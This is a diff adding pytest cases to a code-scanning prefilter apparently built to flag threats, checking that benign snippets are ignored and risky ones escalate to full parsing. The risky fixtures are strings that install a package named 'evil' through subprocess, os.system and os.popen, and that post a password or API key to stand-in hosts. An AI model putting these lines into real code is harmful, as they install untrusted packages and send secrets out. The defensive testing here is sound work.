@@ -252,3 +252,35 @@ def test_a_code_object_compiled_on_a_hit_line_is_followed_to_where_it_runs(
     # Hand-XORed bytes beside a sink now send the whole file to the AST pass
     # (recall work, issue 16); either way the line that runs the code is visited.
     assert need is Need.FULL or (isinstance(need, frozenset) and {3, 8} <= need)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # pip install named in a message: no process call runs it (CPL-THR-019 is checked
+        # on process calls only), issue 16: a quarter of the benign bytes parsed for it alone
+        "def need():\n    raise ImportError('numpy is missing: pip install numpy')\n",
+        "HINT = ['pip', 'install', 'caplet']  # printed, never run\n",
+        # a credential parameter and a clear-text URL, nothing that sends (CPL-THR-026 is
+        # checked on egress calls only)
+        "def login(user, password):\n    return 'http://example.org/login?u=' + user\n",
+    ],
+)
+def test_one_side_of_a_rule_alone_needs_nothing(prefilter: Prefilter, text: str) -> None:
+    assert prefilter.check(text) is Need.NOTHING
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "import subprocess\nsubprocess.check_call(['pip', 'install', 'evil'])\n",
+        "from os import system as s\ns('pip install evil')\n",
+        "import os\nos.popen('pip3 install evil')\n",
+        "import requests\n\ndef login(user, password):\n"
+        "    requests.post('http://203.0.113.9/x', data=password)\n",
+        "from urllib.request import urlopen\n\ndef send(api_key):\n"
+        "    urlopen('http://collect.example/k', api_key.encode())\n",
+    ],
+)
+def test_both_sides_of_a_rule_need_the_ast(prefilter: Prefilter, text: str) -> None:
+    assert prefilter.check(text) is not Need.NOTHING
